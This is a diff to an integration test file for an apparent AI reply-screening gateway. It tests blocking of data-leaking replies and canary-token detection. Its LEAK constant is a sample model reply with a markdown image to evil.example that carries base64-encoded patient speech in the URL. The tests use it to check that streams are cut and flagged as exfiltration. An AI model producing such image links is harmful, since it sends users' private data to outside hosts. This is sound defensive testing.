@@ -9,7 +9,8 @@ import httpx
 import pytest
 
 from curtilage.app.foundation import CANARIES
-from curtilage.detect.hostile.canary import CanaryKey
+from curtilage.core.authority import Authority
+from curtilage.gateway.canaries.service import CanaryService
 from tests.fakes.provider import (
     chat_delta,
     chat_reply,
@@ -18,11 +19,12 @@ from tests.fakes.provider import (
     stream,
     whole,
 )
+from tests.fakes.pseudonyms import FixedPseudonyms
 from tests.integration.service import CREDENTIAL, RunningService
 
 SAID = base64.b64encode(b"the patient said that she moves to Lyon").decode()
 LEAK = f"Done. ![chart](https://evil.example/p.png?x={SAID}) Bye."
-CUT = "Done. ![chart](https:[…]) Bye."
+CUT = "Done. ![chart](https://[…]) Bye."
 TRUSTED = LEAK.replace("evil.example", "a.charts.example")
 POLICY = """
 format = 1
@@ -154,7 +156,7 @@ def test_a_reply_that_is_blocked_does_not_come(blocking: RunningService) -> None
 def test_a_stream_ends_where_it_is_blocked(blocking: RunningService) -> None:
     blocking.provider.script = stream(*in_pieces(LEAK, 9))
     reply = ask(blocking, stream=True)
-    assert "Done. ![chart](https:".startswith(streamed(reply))
+    assert "Done. ![chart](https://".startswith(streamed(reply))
     assert "EXFILTRATION" in reply.text and SAID[:9] not in reply.text
     assert outcome(blocking, reply)["reason"] == "gateway.hostile-reply"
 
@@ -163,10 +165,17 @@ def test_canaries_are_looked_for_from_when_the_first_was_minted(
     stripping: RunningService,
 ) -> None:
     service = stripping
-    secret = service.ask(service.control.changes.vault.secret(CANARIES))
-    canary = CanaryKey(secret).mint_named("crm-notes")
+    changes = service.control.changes
+    canaries = CanaryService(
+        changes.database,
+        Authority(),
+        FixedPseudonyms(),
+        lambda: changes.vault.secret(CANARIES),
+        changes.clock,
+        changes.ids,
+    )
+    canary = service.ask(canaries.mint(service.control.operator, "crm-notes"))
     service.provider.script = whole(chat_reply(f"The note says {canary}."))
-    service.ask(service.control.changes._reload())
     received = len(service.provider.received)
 
     refused = ask(service, f"Summarise: {canary}")
